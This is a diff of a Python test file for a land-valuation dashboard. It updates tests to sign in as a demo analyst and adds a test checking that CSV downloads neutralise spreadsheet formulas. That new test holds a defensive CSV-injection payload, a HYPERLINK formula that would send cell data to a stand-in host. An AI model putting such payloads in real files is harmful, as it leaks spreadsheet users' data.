@@ -11,7 +11,8 @@ from typing import Any
 import geopandas as gpd
 import pytest
 import shapely
-from dashboard_support import DASHBOARD, database_url
+from dashboard_support import database_url, demo_login, sign_in_demo
+from security_support import service_actor
 from sqlalchemy import text
 from sqlalchemy.engine import Engine
 from streamlit.testing.v1 import AppTest
@@ -27,8 +28,9 @@ ROLL_DATE = date(2026, 11, 15)
 
 @pytest.fixture
 def rolled(demo_copy: Engine, demo_dir: Path, point_app_at: PointAt) -> Engine:
-    load_dc_rates(demo_copy, demo_dir / "dc_rates.csv")
-    run_roll(demo_copy, ROLL_DATE)
+    demo = service_actor(demo_copy, "demo")
+    load_dc_rates(demo_copy, demo_dir / "dc_rates.csv", actor=demo)
+    run_roll(demo_copy, ROLL_DATE, actor=service_actor(demo_copy, "valuation"))
     point_app_at(database_url(demo_copy))
     return demo_copy
 
@@ -37,8 +39,9 @@ def ok(at: AppTest) -> None:
     assert not at.exception, [e.value for e in at.exception]
 
 
-def valuation_page() -> AppTest:
-    at = AppTest.from_file(str(DASHBOARD), default_timeout=120).run()
+def valuation_page(engine: Engine, demo_dir: Path) -> AppTest:
+    """The Valuation page, signed in as the demo's revenue analyst."""
+    at = sign_in_demo(engine, demo_login(engine, demo_dir, "revenue_analyst"), timeout=120)
     at.switch_page("views/valuation.py").run()
     ok(at)
     return at
@@ -50,19 +53,19 @@ def layer(at: AppTest, layer_id: str) -> dict[str, Any]:
 
 
 def test_without_a_roll_the_page_says_how_to_run_one(
-    demo_copy: Engine, point_app_at: PointAt
+    demo_copy: Engine, demo_dir: Path, point_app_at: PointAt
 ) -> None:
     point_app_at(database_url(demo_copy))
-    at = valuation_page()
+    at = valuation_page(demo_copy, demo_dir)
     assert [el.value for el in at.title] == ["Valuation"]
     assert "landgov valuation run --as-of DATE" in at.info[0].value
     assert not at.get("deck_gl_json_chart")
 
 
 def test_with_a_roll_the_page_shows_values_studies_and_under_declared_sales(
-    rolled: Engine,
+    rolled: Engine, demo_dir: Path
 ) -> None:
-    at = valuation_page()
+    at = valuation_page(rolled, demo_dir)
     mouza_id = at.sidebar.selectbox(key="mouza_id").value
     with rolled.connect() as conn:
         roll_id, total = conn.execute(
@@ -121,10 +124,12 @@ def test_with_a_roll_the_page_shows_values_studies_and_under_declared_sales(
 def test_a_model_roll_explains_parcels_and_lists_sales_far_below_the_model(
     demo_copy: Engine, demo_dir: Path, point_app_at: PointAt
 ) -> None:
-    load_dc_rates(demo_copy, demo_dir / "dc_rates.csv")
-    roll = run_roll(demo_copy, ROLL_DATE, method="model")
+    load_dc_rates(demo_copy, demo_dir / "dc_rates.csv", actor=service_actor(demo_copy, "demo"))
+    roll = run_roll(
+        demo_copy, ROLL_DATE, method="model", actor=service_actor(demo_copy, "valuation")
+    )
     point_app_at(database_url(demo_copy))
-    at = valuation_page()
+    at = valuation_page(demo_copy, demo_dir)
     mouza_id = at.sidebar.selectbox(key="mouza_id").value
     picker = at.selectbox(key="valuation_explain_khasra")
     with demo_copy.connect() as conn:
@@ -230,6 +235,19 @@ def test_map_rows_and_table_carry_the_values() -> None:
     assert list(table.columns) == vd.VALUE_COLUMNS and table["Value (Rs)"].sum() == 7_000_000
     assert vd.csv_bytes(gdf).decode("utf-8-sig").splitlines()[0].startswith("Khasra,")
     assert table["Valued by"].tolist() == ["DC rate 3", "model 5"]
+
+
+def test_the_csv_download_neutralises_formula_cells() -> None:
+    """OWASP CSV injection: a khasra number a spreadsheet would run stays text."""
+    import csv
+    import io
+
+    gdf = _parcels()
+    gdf["khasra_no"] = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "-2+3"]
+    rows = list(csv.reader(io.StringIO(vd.csv_bytes(gdf).decode("utf-8-sig"))))
+    assert rows[0][0] == "Khasra"
+    assert [r[0] for r in rows[1:]] == ["'" + gdf["khasra_no"].iloc[0], "'-2+3"]
+    assert [r[4] for r in rows[1:]] == ["2000000", "5000000"]  # numbers stay numbers
 
 
 def test_geopackage_reads_back_with_the_same_rows(tmp_path: Path) -> None:
